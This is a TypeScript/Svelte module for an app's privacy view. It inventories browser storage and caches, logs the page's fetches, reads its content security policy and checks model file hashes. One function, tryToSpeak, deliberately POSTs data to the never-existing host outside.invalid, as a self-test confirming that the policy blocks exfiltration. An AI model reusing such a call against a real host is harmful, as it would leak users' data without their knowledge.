import { historyTables, type HistoryTable } from '$lib/data/database';
import { createSubscriber } from 'svelte/reactivity';
import { device } from './device.svelte';

/** One line of what lies on the device: how many, and how large in bytes. */
export interface Lying {
  name: string;
  count: number;
  bytes: number;
}

/** Everything this app has put into this browser. */
export interface Inventory {
  tables: (Lying & { name: HistoryTable | 'drafts' | 'settings' })[];
  /** Bare marks of deleted records. */
  tombstones: number;
  keys: Lying[];
  /** Bytes of the second copy; null where the browser has no place for one. */
  secondCopy: number | null;
  caches: Lying[];
}

const sizeOf = (text: string): number => new Blob([text]).size;

/** How large rows are, in bytes: of sealed ones the cipher text, of others their words. */
function sizeOfRows(rows: readonly unknown[]): number {
  let sealed = 0;
  const words = JSON.stringify(rows, (_key, value: unknown) => {
    if (!(value instanceof Uint8Array)) return value;
    sealed += value.byteLength;
    return undefined;
  });
  return rows.length === 0 ? 0 : sizeOf(words) + sealed;
}

/** Looks through everything this app has put into this browser. Sizes of records are those of their words. */
export async function inventory(): Promise<Inventory> {
  const { db } = await device.opened;
  const tables: Inventory['tables'] = [];
  let tombstones = 0;
  for (const name of [...historyTables, 'drafts', 'settings'] as const) {
    const rows = (await db.table(name).toArray()) as { deleted?: string }[];
    const living = rows.filter(({ deleted }) => !deleted);
    tombstones += rows.length - living.length;
    tables.push({ name, count: living.length, bytes: sizeOfRows(living) });
  }
  const keys = Object.entries(localStorage)
    .filter(([name]) => name.startsWith('understory.'))
    .map(([name, value]) => ({ name, count: 1, bytes: sizeOf(name + String(value)) }));
  const { copySize, drawerHere } = await import('$lib/data/second-copy');
  const drawer = await drawerHere();
  const secondCopy = drawer && (await copySize(drawer).catch(() => 0));
  return { tables, tombstones, keys, secondCopy, caches: await cachesNow() };
}

async function cachesNow(): Promise<Lying[]> {
  if (!('caches' in window)) return [];
  const found: Lying[] = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    const requests = await cache.keys();
    let bytes = 0;
    for (const request of requests) bytes += (await (await cache.match(request))?.blob())?.size ?? 0;
    found.push({ name, count: requests.length, bytes });
  }
  return found;
}

/** One thing the page has fetched. */
export interface Fetched {
  /** Where from: the path for our own, the whole address for anything else. */
  name: string;
  ours: boolean;
}

/** What the page has fetched since it was opened, as the browser itself has noted it; it grows while one looks. */
export class FetchLog {
  /** The browser stops noting at a limit and says so. */
  full = $state(false);
  #subscribe = createSubscriber((update) => {
    const observer = new PerformanceObserver(update);
    observer.observe({ type: 'resource', buffered: true });
    const onfull = () => (this.full = true);
    performance.addEventListener('resourcetimingbufferfull', onfull);
    return () => {
      observer.disconnect();
      performance.removeEventListener('resourcetimingbufferfull', onfull);
    };
  });

  /** Everything so far, in order; whatever came from elsewhere stands first. */
  get entries(): Fetched[] {
    this.#subscribe();
    const page = performance.getEntriesByType('navigation').map(({ name }) => name);
    const parts = performance.getEntriesByType('resource').map(({ name }) => name);
    const all = [...page, ...parts]
      .map((address) => new URL(address, location.href))
      .filter(({ protocol }) => protocol !== 'data:') // written into the page itself, fetched from nowhere
      .map((url) => {
        // A blob: lies in this page's own memory; its address names the page that made it.
        const ours = url.origin === location.origin;
        return { name: ours ? url.pathname : url.href, ours };
      });
    return [...all.filter(({ ours }) => !ours), ...all.filter(({ ours }) => ours)];
  }
}

/** The content policy of this page, line by line, from its own head; empty when there is none. */
export function policyInForce(): { name: string; values: string }[] {
  const meta = document.querySelector('meta[http-equiv="content-security-policy" i]');
  return (meta?.getAttribute('content') ?? '')
    .split(';')
    .map((line) => line.trim())
    .filter(Boolean)
    .map((line) => {
      const [name = '', ...values] = line.split(/\s+/);
      return { name, values: values.join(' ') };
    });
}

/**
 * Tries to send one word out, as a thief would. Gives back the rule by which the browser refused, or null when
 * nothing refused. The address is one that by agreement never exists, so even then nobody hears.
 */
export function tryToSpeak(): Promise<string | null> {
  return new Promise((resolve) => {
    const refused = ({ effectiveDirective }: SecurityPolicyViolationEvent) => settle(effectiveDirective);
    const settle = (by: string | null) => {
      clearTimeout(timer);
      document.removeEventListener('securitypolicyviolation', refused);
      resolve(by);
    };
    const timer = setTimeout(() => settle(null), 3_000);
    document.addEventListener('securitypolicyviolation', refused);
    void fetch('https://outside.invalid/', { method: 'POST', body: 'test' }).catch(() => {});
  });
}

/** The model's card as it lies beside its files. */
export interface ModelCard {
  id: string;
  version: string;
  bytes: number;
  files: { path: string; sha256: string; bytes: number }[];
  figures: Record<string, Record<string, number> | number>;
}

/** Reads the model's card; null when it cannot be had. */
export async function modelCard(base: string): Promise<ModelCard | null> {
  try {
    const cards = (await (await fetch(`${base}/models/MODELS.json`)).json()) as ModelCard[];
    return cards.find(({ id }) => id === 'valence') ?? null;
  } catch {
    return null;
  }
}

/** Holds every file of the model against its fingerprint; gives back those that are not as listed. */
export async function checkModelFiles(base: string, card: ModelCard): Promise<string[]> {
  const wrong: string[] = [];
  for (const { path, sha256 } of card.files) {
    const bytes = await fetch(`${base}/models/${path}`)
      .then((answer) => answer.arrayBuffer())
      .catch(() => new ArrayBuffer(0));
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
    const text = [...digest].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    if (text !== sha256) wrong.push(path);
  }
  return wrong;
}
